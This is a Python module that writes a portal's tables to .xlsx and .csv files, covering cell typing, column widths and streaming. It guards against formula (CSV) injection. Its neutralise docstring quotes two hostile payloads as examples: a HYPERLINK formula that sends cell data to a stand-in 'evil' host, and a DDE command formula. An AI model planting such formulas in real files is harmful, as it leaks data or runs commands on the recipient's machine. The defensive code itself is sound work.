"""Writing a table out as .xlsx or .csv: the one writer every export of the portal uses.

The grid's "export the current view", the lists, whole-archive exports and mailing lists all
hand :func:`write_table` a list of :class:`ExportColumn` and an iterable of rows of plain
values; what a cell becomes in the file is decided here, once, from the value and the column's
:class:`~portal.fields.spec.FieldType`:

* numbers of a number type (INT, DECIMAL, MONEY) are real numbers, with the type's format;
* dates and datetimes are real Excel dates (``yyyy-mm-dd`` / ``yyyy-mm-dd hh:mm``);
* identifiers (mobile, phone, postcode, ID and card numbers) are always text, so Excel never
  turns 13812345678 into 1.38E+10 or rounds a 19-digit card number;
* a Python ``bool`` is the word for yes or no (是 / 否 unless told otherwise);
* text is never a formula. In .xlsx every text cell is a typed string cell (``t="inlineStr"``,
  xlsxwriter's ``strings_to_formulas`` off), which no spreadsheet evaluates, so text is written
  exactly as the screen shows it — +86 571 8888 0000 stays +86 571 8888 0000, and the portal's
  own export imports back unchanged; text that begins like a formula (= + - @, or a tab or
  carriage return that could hide one) gets a cell style with Excel's *quote prefix*, so a user
  editing the cell keeps text too (and Excel shows it as text). A leading tab or carriage
  return is kept as well: in a string cell it hides nothing that could run, and taking it off
  would change the value as surely as adding an apostrophe. A .csv has no cell types: there
  such text is neutralised with a leading apostrophe (:func:`neutralise`, OWASP's advice);
* ``None`` is an empty cell.

Column widths suit the content: each column is as wide as the widest value of the first
``WIDTH_SAMPLE_ROWS`` rows (in display width, a Chinese character counting double; one line of a
multi-line cell), at least as wide as its header and at most ``MAX_CONTENT_WIDTH``; a column
with no text in those rows keeps its type's width. Only that bounded sample is measured — the
rest of the rows take the writer's short path untouched — and the widths are set when the
sheet is complete (xlsxwriter writes the ``<cols>`` element on close, constant_memory or not).

No Flask here: labels, masking and row scope are the caller's business; this module only writes.
Rows are consumed one at a time and never held: with xlsxwriter's ``constant_memory`` the
xlsx side keeps one row in memory, the csv side a few tens of kilobytes, so a million-row
export costs no more memory than a ten-row one.
"""
from __future__ import annotations

import csv
import datetime as dt
import itertools
import math
import tempfile
import unicodedata
from dataclasses import dataclass
from decimal import Decimal
from typing import Any, Iterable, Sequence

import xlsxwriter

from portal.fields.spec import IDENTIFIER_TYPES, NUMBER_TYPES, FieldType

FORMATS = ("xlsx", "csv")

# Excel's own limits (Excel 2007 and later).
MAX_ROWS = 1_048_576        # rows of one worksheet, the header row included
MAX_COLUMNS = 16_384
MAX_CELL_CHARS = 32_767     # characters one cell holds; Excel cuts anything longer on open
MAX_SHEET_NAME = 31         # UTF-16 code units, as Excel counts them
MAX_EXACT_INTEGER = 10**15  # Excel keeps 15 significant digits; longer integers go out as text

_SHEET_NAME_FORBIDDEN = str.maketrans({c: "_" for c in "[]:*?/\\"})
_FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

MONEY_FORMAT = "#,##0.00"
INT_FORMAT = "0"
DATE_FORMAT = "yyyy-mm-dd"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm"
TEXT_FORMAT = "@"

# Column widths in characters when the column does not say; the header may widen them.
DEFAULT_WIDTHS: dict[FieldType, int] = {
    FieldType.TEXT: 20, FieldType.LONGTEXT: 40,
    FieldType.INT: 10, FieldType.DECIMAL: 14, FieldType.MONEY: 16,
    FieldType.DATE: 12, FieldType.DATETIME: 17, FieldType.BOOL: 6,
    FieldType.CHOICE: 12, FieldType.RELATION: 20, FieldType.RELATION_MANY: 24,
    FieldType.MOBILE: 14, FieldType.PHONE: 18, FieldType.EMAIL: 28, FieldType.URL: 32,
    FieldType.POSTCODE: 9, FieldType.ID_NUMBER: 21, FieldType.CARD_NUMBER: 23,
}
_FILTER_BUTTON = 3          # characters the autofilter's drop-down takes from the header cell
_MAX_HEADER_WIDTH = 60      # a very long label does not make a column wider than this
_MAX_WIDTH = 255            # Excel's limit
WIDTH_SAMPLE_ROWS = 500     # the first rows of a table whose text sets its column widths
MAX_CONTENT_WIDTH = 60      # a column is not made wider than this by its values
_CELL_PADDING = 2           # room either side of the widest value
_MEASURED_CHARS = 2_000     # of a multi-line value, the lines within its first characters count

_BLANK, _TEXT, _NUMBER, _DATE, _DATETIME = range(5)


@dataclass(frozen=True)
class ExportColumn:
    """One column of an export: its header text and the type that decides how cells are written."""

    label: str
    type: FieldType
    width: int | None = None   # characters; None = from the type and label

    def __post_init__(self):
        object.__setattr__(self, "type", FieldType(self.type))


def neutralise(text: str) -> str:
    """``text`` made safe from formula (CSV) injection, for a .csv.

    Excel, LibreOffice and Google Sheets run a CSV cell that begins with ``=``, ``+``, ``-`` or
    ``@`` as a formula as soon as the file is opened — a CSV has no cell types — so a customer
    named ``=HYPERLINK("http://evil/?"&A1)`` or ``=cmd|' /C calc'!A0`` would leak data or run
    a command on the clerk's machine. A leading tab or carriage return can hide such a formula
    behind white space. OWASP's advice for "CSV injection" is to prefix those cells with a
    single quote, which the spreadsheet shows as text; we do that for every text cell of a csv
    (numbers and dates are written as such and cannot be formulas). A phone written as
    "+86 138…" gets the quote too: in a csv a visible apostrophe is the price of never running
    a formula. An .xlsx needs none of it (its text cells are typed strings, see the module's
    docstring) and keeps the value as it is.
    """
    if text.startswith(_FORMULA_TRIGGERS):
        return "'" + text
    return text


def sanitise_sheet_name(name: str) -> str:
    """A worksheet name Excel accepts: none of ``[]:*?/\\``, no apostrophe at either end,
    at most 31 characters, not the reserved "History"; Chinese and other text is kept."""
    name = " ".join(str(name).translate(_SHEET_NAME_FORBIDDEN).split()).strip("'")
    name = _fit(name, MAX_SHEET_NAME).strip().strip("'")
    if not name:
        return "Sheet1"
    if name.lower() == "history":
        return name + "_"
    return name


def display_width(text: str) -> int:
    """Columns ``text`` takes on screen: CJK and other wide characters count double."""
    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in text)


def column_width(column: ExportColumn, content: int = 0) -> int:
    """The width of ``column`` in characters: its own when it says; else, when ``content`` (the
    display width of its widest value, 0 = unknown) is given, that plus a little room, at most
    ``MAX_CONTENT_WIDTH``; else its type's. Either way at least as wide as the label (with the
    filter's drop-down button, at most ``_MAX_HEADER_WIDTH``)."""
    if column.width is not None:
        return max(1, min(column.width, _MAX_WIDTH))
    header = min(display_width(column.label) + _FILTER_BUTTON, _MAX_HEADER_WIDTH)
    if content > 0:
        return max(header, min(content + _CELL_PADDING, MAX_CONTENT_WIDTH))
    return max(DEFAULT_WIDTHS.get(column.type, 16), header)


def _measure(row: Sequence, widths: list[int]) -> None:
    """Widens ``widths`` to the text values of ``row`` (display width of the longest line)."""
    cap = MAX_CONTENT_WIDTH
    for index, value in enumerate(row):
        if value.__class__ is not str:
            continue
        known = widths[index]
        if known >= cap or len(value) * 2 <= known:   # cannot make the column wider
            continue
        if "\n" in value:
            width = max(display_width(line[:cap]) for line in value[:_MEASURED_CHARS].split("\n"))
        else:
            width = display_width(value[:cap])   # cap characters are at least cap columns wide
        if width > known:
            widths[index] = width


def write_table(stream, *, fmt: str, sheet_name: str, columns: list[ExportColumn], rows: Iterable[Sequence],
                yes_no: tuple[str, str] = ("是", "否")) -> int:
    """Writes rows (plain values: str, int, float, Decimal, date, datetime, bool, None) to the binary
    stream as .xlsx (fmt="xlsx") or UTF-8-with-BOM .csv (fmt="csv"); returns the number of data rows.

    ``rows`` may be any iterable — a generator over the database — and is read once, row by
    row; every row must have one value per column. ``yes_no`` are the words a ``bool`` is
    written as. The stream only needs ``write(bytes)``: it need not seek, and it is not closed.

    xlsx: one sheet named ``sheet_name`` (made valid, see :func:`sanitise_sheet_name`) with a
    bold, filled, bordered header row that stays frozen, an autofilter over the written range
    and column widths from :func:`column_width` and the first ``WIDTH_SAMPLE_ROWS`` rows' text.
    Text is written exactly as given (formula-like text with the quote-prefix style). A sheet
    holds at most ``MAX_ROWS`` rows (1,048,576 with the header): when more rows come, they
    continue on a new sheet named
    "<name> (2)", "<name> (3)" … each with the header again. Text longer than Excel's 32,767
    characters per cell is cut there.

    csv: the header is the labels; ``\\r\\n`` line ends, minimal quoting, dates in ISO form
    (``2025-03-01``, ``2025-03-01 14:30:00``), Decimals as plain digits, text neither typed nor
    cut. CSV carries no types: a person opening it in Excel gets long digit strings turned into
    numbers by Excel itself, which is why the portal offers xlsx to people and csv to programs.

    If ``rows`` raises, the error propagates and nothing of the xlsx reaches ``stream`` (the
    csv may have been written in part: callers write to a temporary file and discard it).
    """
    if fmt not in FORMATS:
        raise ValueError(f"unknown export format {fmt!r}; expected one of {', '.join(FORMATS)}")
    columns = _checked_columns(columns)
    if fmt == "xlsx":
        with XlsxBook(stream, yes_no=yes_no) as book:
            return book.add_table(sheet_name, columns, rows)
    return _write_csv(stream, columns, rows, tuple(yes_no))


def _checked_columns(columns) -> list[ExportColumn]:
    columns = list(columns)
    if not columns:
        raise ValueError("an export needs at least one column")
    if len(columns) > MAX_COLUMNS:
        raise ValueError(f"{len(columns)} columns exceed Excel's {MAX_COLUMNS}")
    return columns


# --- what a value becomes ------------------------------------------------------------------

def _plain(value: Any) -> str:
    """A number or other value as the digits a person would write, never in exponent form."""
    if isinstance(value, Decimal):
        return format(value, "f")
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    return str(value)


def _classify(value: Any, type_: FieldType, yes_no: tuple[str, str]) -> tuple[int, Any]:
    """The kind of cell ``value`` makes in a column of ``type_``, and what goes in it.

    Text comes back as it is (the csv writer neutralises it, the xlsx writer gives it the
    quote-prefix style); both writers share this so xlsx and csv agree.
    """
    if value is None:
        return _BLANK, None
    if isinstance(value, bool) or (type_ is FieldType.BOOL and isinstance(value, int) and value in (0, 1)):
        return _TEXT, yes_no[0] if value else yes_no[1]
    if type_ in IDENTIFIER_TYPES:
        return _TEXT, _plain(value)
    if isinstance(value, (int, float, Decimal)):
        if isinstance(value, Decimal):
            finite = value.is_finite()
        elif isinstance(value, float):
            finite = math.isfinite(value)
        else:
            finite = abs(value) < MAX_EXACT_INTEGER
        if not finite:       # NaN, infinity, or an integer Excel would round: keep it exact as text
            return _TEXT, _plain(value)
        return _NUMBER, value
    if isinstance(value, dt.datetime):
        return (_DATE, value.date()) if type_ is FieldType.DATE else (_DATETIME, value)
    if isinstance(value, dt.date):
        if type_ is FieldType.DATETIME:
            return _DATETIME, dt.datetime.combine(value, dt.time())
        return _DATE, value
    return _TEXT, str(value)


def _iso(value: dt.date) -> str:
    """A date or datetime in ISO 8601 form, a space between date and time as Excel reads it."""
    return value.isoformat(sep=" ") if isinstance(value, dt.datetime) else value.isoformat()


def _fit(text: str, units: int) -> str:
    """``text`` cut to at most ``units`` UTF-16 code units (how Excel measures names)."""
    while len(text.encode("utf-16-le")) // 2 > units:
        text = text[:-1]
    return text


def _numbered(base: str, number: int) -> str:
    """The name of the ``number``-th sheet of an export: "<base> (2)", kept within 31 characters."""
    if number == 1:
        return base
    suffix = f" ({number})"
    return _fit(base, MAX_SHEET_NAME - len(suffix)).rstrip() + suffix


# --- xlsx ----------------------------------------------------------------------------------

# Excel's serial day numbers count from 1899-12-30 for every date from 1900-03-01 on (before
# that, its 1900 leap-year bug shifts them by one: those rare dates go through xlsxwriter).
_EXCEL_EPOCH = dt.datetime(1899, 12, 30)
_EXCEL_EPOCH_ORDINAL = _EXCEL_EPOCH.toordinal()
_FIRST_PLAIN_DAY = dt.date(1900, 3, 1)
_FIRST_PLAIN_MOMENT = dt.datetime(1900, 3, 1)


class XlsxBook:
    """An .xlsx of one or more tables, each on its own sheet(s), written in the order added.

    ``with XlsxBook(stream) as book: book.add_table(name, columns, rows); …`` — the workbook
    goes to ``stream`` when the block ends normally; when it ends with an error, nothing is
    written and the row files are removed. With ``constant_memory`` a sheet's rows go to a temp
    file as they come, so a table must be complete before the next is added (which is how
    :meth:`add_table` works: it consumes its rows before returning).
    """

    def __init__(self, stream, *, yes_no: tuple[str, str] = ("是", "否")):
        # With constant_memory and in_memory off, xlsxwriter writes each sheet's rows to a temp
        # file as they come and, on close(), zips those files into ``stream`` (zipfile copes with
        # a stream that cannot seek by writing data descriptors). The temp files go to a private
        # folder under the system's temp dir (TMPDIR), so that an export cut short — the database
        # failing mid-way, the client going away — leaves nothing behind.
        self._tmp = tempfile.TemporaryDirectory(prefix="portal-export-", ignore_cleanup_errors=True)
        self.workbook = xlsxwriter.Workbook(_CountingWriter(stream), {
            "constant_memory": True, "strings_to_formulas": False, "strings_to_urls": False,
            "strings_to_numbers": False, "in_memory": False, "tmpdir": self._tmp.name,
        })
        self.yes_no = tuple(yes_no)
        self.tables: list[tuple[str, int]] = []   # (first sheet's name, rows) of each table added
        self._names: set[str] = set()
        self._formats = _Formats(self.workbook)

    def __enter__(self) -> "XlsxBook":
        return self

    def __exit__(self, kind, error, trace) -> None:
        try:
            if kind is None:
                self.workbook.close()
            else:
                for sheet in self.workbook.worksheets():   # close the row files; nothing reaches stream
                    sheet._opt_close()
        finally:
            self._tmp.cleanup()

    def add_table(self, sheet_name: str, columns: list[ExportColumn], rows: Iterable[Sequence]) -> int:
        """Writes ``rows`` as a new sheet (more, past Excel's row limit); the number written.
        A name already used in this workbook gets " (2)", " (3)" …"""
        columns = _checked_columns(columns)
        name = self._unique(sanitise_sheet_name(sheet_name))
        written = _fill(self, name, columns, rows)
        self.tables.append((name, written))
        return written

    def _unique(self, base: str) -> str:
        name, number = base, 1
        while name.lower() in self._names:
            number += 1
            name = _numbered(base, number)
        return name

    def _open_sheet(self, name: str, columns: list[ExportColumn]):
        self._names.add(name.lower())
        sheet = self.workbook.add_worksheet(name)
        formats = self._formats
        # The columns' formats must be set before the first row is written (constant_memory gives
        # a cell without a format of its own its column's as the row goes out); the widths are set
        # again from the values when the sheet is complete (_close_sheet).
        for index, column in enumerate(columns):
            sheet.set_column(index, index, column_width(column), formats.column(column.type))
        for index, column in enumerate(columns):
            label = column.label[:MAX_CELL_CHARS]
            sheet.write_string(0, index, label, formats.quoted_header if label.startswith(_FORMULA_TRIGGERS)
                               else formats.header)
        sheet.freeze_panes(1, 0)
        return sheet

    def _close_sheet(self, sheet, columns: list[ExportColumn], rows: int, widths: list[int]) -> None:
        """The sheet's rows are all written: its autofilter, and its widths from the values measured."""
        sheet.autofilter(0, 0, rows, len(columns) - 1)
        formats = self._formats
        for index, column in enumerate(columns):
            sheet.set_column(index, index, column_width(column, widths[index]), formats.column(column.type))


class _Formats:
    """The workbook's cell formats, made once and shared by its sheets."""

    def __init__(self, workbook):
        header = {"bold": True, "bg_color": "#DDEBF7", "border": 1, "valign": "vcenter"}
        self.header = workbook.add_format(header)
        self.text = workbook.add_format({"num_format": TEXT_FORMAT})
        # Text that begins like a formula: Excel's quote prefix (shown and kept as text when edited).
        self.quoted_header = workbook.add_format({**header, "quote_prefix": True})
        self.quoted = workbook.add_format({"quote_prefix": True})
        self.quoted_text = workbook.add_format({"num_format": TEXT_FORMAT, "quote_prefix": True})
        # Long text (remarks, a mail-merge address block) keeps its line breaks on screen: Excel
        # shows a cell's "\n" only when the cell wraps, and then sizes the row to its lines.
        self.wrapped = workbook.add_format({"text_wrap": True, "valign": "top"})
        self.quoted_wrapped = workbook.add_format({"text_wrap": True, "valign": "top", "quote_prefix": True})
        self.date = workbook.add_format({"num_format": DATE_FORMAT})
        self.datetime = workbook.add_format({"num_format": DATETIME_FORMAT})
        self.numbers = {
            FieldType.INT: workbook.add_format({"num_format": INT_FORMAT}),
            FieldType.MONEY: workbook.add_format({"num_format": MONEY_FORMAT}),
            FieldType.DECIMAL: None,   # General: as many decimals as the value has
        }

    def text_formats(self, type_: FieldType):
        """(the format of a text cell of a column of ``type_``, that of one beginning like a
        formula — written as it is, as a string cell with the quote prefix)."""
        if type_ in IDENTIFIER_TYPES:
            return self.text, self.quoted_text
        if type_ is FieldType.LONGTEXT:
            return self.wrapped, self.quoted_wrapped
        return None, self.quoted

    def column(self, type_: FieldType):
        """The format a whole column carries (what a cell typed into it later becomes)."""
        if type_ in IDENTIFIER_TYPES:
            return self.text
        if type_ is FieldType.LONGTEXT:
            return self.wrapped
        if type_ is FieldType.DATE:
            return self.date
        if type_ is FieldType.DATETIME:
            return self.datetime
        return self.numbers.get(type_)


def _fill(book: XlsxBook, base_name: str, columns: list[ExportColumn], rows: Iterable[Sequence]) -> int:
    rows_per_sheet = MAX_ROWS - 1
    count = len(columns)
    sheet_number = 1
    sheet = book._open_sheet(base_name, columns)
    writers = _cell_writers(sheet, columns, book._formats, book.yes_no)
    widths = [0] * count   # display width of the widest text of each column in the sample
    on_sheet = 0
    written = 0
    rows = iter(rows)
    # The first rows are measured for the column widths, the rest only written: the sample is
    # bounded, so a million-row export spends on widths what a 500-row one does.
    for measuring, source in ((True, itertools.islice(rows, WIDTH_SAMPLE_ROWS)), (False, rows)):
        for row in source:
            if len(row) != count:
                _check_length(row, count, written + 1)
            if on_sheet == rows_per_sheet:
                book._close_sheet(sheet, columns, on_sheet, widths)
                sheet_number += 1
                sheet = book._open_sheet(book._unique(_numbered(base_name, sheet_number)), columns)
                writers = _cell_writers(sheet, columns, book._formats, book.yes_no)
                on_sheet = 0
            on_sheet += 1
            written += 1
            for write, value in zip(writers, row):
                if value is not None:
                    write(on_sheet, value)
            if measuring:
                _measure(row, widths)
    book._close_sheet(sheet, columns, on_sheet, widths)
    return written


def _cell_writers(sheet, columns: list[ExportColumn], formats: _Formats, yes_no: tuple[str, str]) -> list:
    """One function per column, ``write(row, value)`` for a value that is not None.

    Each handles the value its column's type expects on a short path (a ``str`` in a text
    column, a Decimal in a money column, a date in a date column …) and hands anything else to
    the general rules of :func:`_classify`, so every cell ends as :func:`_classify` says. This
    is the export's inner loop — millions of calls — which is why the type is looked at once
    per column and not once per cell (bench/export_speed.py).
    """
    return [_writer(sheet, index, column.type, formats, yes_no) for index, column in enumerate(columns)]


def _writer(sheet, col: int, type_: FieldType, formats: _Formats, yes_no: tuple[str, str]):
    write_string, write_number = sheet.write_string, sheet.write_number
    text_format, quoted_format = formats.text_formats(type_)
    value_format = formats.numbers.get(type_)
    date_format, datetime_format = formats.date, formats.datetime
    triggers = _FORMULA_TRIGGERS

    def general(row: int, value) -> None:
        kind, out = _classify(value, type_, yes_no)
        if kind == _TEXT:
            write_string(row, col, out[:MAX_CELL_CHARS], quoted_format if out.startswith(triggers) else text_format)
        elif kind == _NUMBER:
            write_number(row, col, float(out), value_format)
        elif kind != _BLANK:
            if getattr(out, "tzinfo", None) is not None:   # Excel has no time zones: keep the wall time shown
                out = out.replace(tzinfo=None)
            if out.year < 1900:         # before Excel's first day: keep the date as text
                write_string(row, col, _iso(out), text_format)
            else:
                sheet.write_datetime(row, col, out, date_format if kind == _DATE else datetime_format)

    if type_ in NUMBER_TYPES:
        def write(row: int, value) -> None:
            kind = value.__class__
            if kind is Decimal:
                if value.is_finite():
                    return write_number(row, col, float(value), value_format)
            elif kind is int:
                if -MAX_EXACT_INTEGER < value < MAX_EXACT_INTEGER:
                    return write_number(row, col, value, value_format)
            general(row, value)
    elif type_ is FieldType.DATE:
        def write(row: int, value) -> None:
            if value.__class__ is dt.date and value >= _FIRST_PLAIN_DAY:
                return write_number(row, col, value.toordinal() - _EXCEL_EPOCH_ORDINAL, date_format)
            general(row, value)
    elif type_ is FieldType.DATETIME:
        def write(row: int, value) -> None:
            if value.__class__ is dt.datetime and value.tzinfo is None and value >= _FIRST_PLAIN_MOMENT:
                delta = value - _EXCEL_EPOCH
                return write_number(row, col, delta.days + (delta.seconds + delta.microseconds / 1e6) / 86400,
                                    datetime_format)
            general(row, value)
    elif type_ is FieldType.BOOL:
        yes, no = yes_no
        yes_format, no_format = (quoted_format if word.startswith(triggers) else None for word in yes_no)

        def write(row: int, value) -> None:
            if value is True:
                return write_string(row, col, yes, yes_format)
            if value is False:
                return write_string(row, col, no, no_format)
            general(row, value)
    else:   # text of any kind, identifiers included (their cells carry the text format)
        def write(row: int, value) -> None:
            if value.__class__ is str:
                if value.startswith(triggers):
                    return write_string(row, col, value[:MAX_CELL_CHARS], quoted_format)
                return write_string(row, col, value[:MAX_CELL_CHARS], text_format)
            general(row, value)
    return write


class _CountingWriter:
    """The caller's stream as zipfile wants it: ``write`` answering the number of bytes taken.

    zipfile counts offsets from ``write``'s answer when the stream cannot tell its position,
    and a write callable (a WSGI ``write``, a queue feeding a streamed response) may answer
    None. ``flush`` is passed on if the stream has it; ``tell`` and ``seek`` are the stream's own
    (without them zipfile writes a streamed zip, which Excel reads the same).
    """

    def __init__(self, stream):
        self._stream = stream

    def write(self, data) -> int:
        self._stream.write(data)
        return len(data)

    def flush(self) -> None:
        flush = getattr(self._stream, "flush", None)
        if flush is not None:
            flush()

    def __getattr__(self, name):
        return getattr(self._stream, name)


def _check_length(row: Sequence, expected: int, number: int) -> None:
    if len(row) != expected:
        raise ValueError(f"export row {number} has {len(row)} values for {expected} columns")


# --- csv -----------------------------------------------------------------------------------

class _Utf8Sink:
    """What ``csv.writer`` writes to: encodes to UTF-8 and passes the bytes on in chunks of
    about ``chunk`` characters, so memory stays flat and the stream sees few, large writes."""

    def __init__(self, stream, chunk: int = 64 * 1024):
        self.stream = stream
        self.chunk = chunk
        self.parts: list[str] = []
        self.size = 0

    def write(self, text: str) -> None:
        self.parts.append(text)
        self.size += len(text)
        if self.size >= self.chunk:
            self.flush()

    def flush(self) -> None:
        if self.parts:
            self.stream.write("".join(self.parts).encode("utf-8"))
            self.parts.clear()
            self.size = 0


def _csv_text(kind: int, value: Any) -> str:
    if kind == _TEXT:
        return neutralise(value)
    if kind == _NUMBER:
        return _plain(value) if isinstance(value, Decimal) else str(value)
    if kind == _BLANK:
        return ""
    return _iso(value)


def _csv_converters(columns: list[ExportColumn], yes_no: tuple[str, str]) -> list:
    """One function per column turning a value that is not None into its csv text: the
    column's usual value on a short path, anything else by :func:`_classify` (as for xlsx)."""
    converters = []
    triggers = _FORMULA_TRIGGERS
    for column in columns:
        type_ = column.type

        def general(value, type_=type_) -> str:
            return _csv_text(*_classify(value, type_, yes_no))

        if type_ in NUMBER_TYPES:
            def convert(value, general=general) -> str:
                kind = value.__class__
                if kind is Decimal and value.is_finite():
                    return format(value, "f")
                if kind is int and -MAX_EXACT_INTEGER < value < MAX_EXACT_INTEGER:
                    return str(value)
                return general(value)
        elif type_ in (FieldType.DATE, FieldType.DATETIME):
            wanted = dt.date if type_ is FieldType.DATE else dt.datetime

            def convert(value, general=general, wanted=wanted) -> str:
                if value.__class__ is wanted and (wanted is dt.date or value.tzinfo is None):
                    return value.isoformat(" ") if wanted is dt.datetime else value.isoformat()
                return general(value)
        elif type_ is FieldType.BOOL:
            def convert(value, general=general, yes=neutralise(yes_no[0]), no=neutralise(yes_no[1])) -> str:
                if value is True:
                    return yes
                if value is False:
                    return no
                return general(value)
        else:
            def convert(value, general=general) -> str:
                if value.__class__ is str:
                    return "'" + value if value.startswith(triggers) else value
                return general(value)
        converters.append(convert)
    return converters


def _write_csv(stream, columns: list[ExportColumn], rows: Iterable[Sequence], yes_no: tuple[str, str]) -> int:
    sink = _Utf8Sink(stream)
    sink.write("\ufeff")   # the BOM: without it Excel reads UTF-8 as the local code page (GBK)
    writer = csv.writer(sink, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
    writer.writerow([neutralise(column.label) for column in columns])
    converters = _csv_converters(columns, yes_no)
    count = len(columns)
    writerow = writer.writerow
    written = 0
    for row in rows:
        if len(row) != count:
            _check_length(row, count, written + 1)
        writerow(["" if value is None else convert(value) for convert, value in zip(converters, row)])
        written += 1
    sink.flush()
    return written
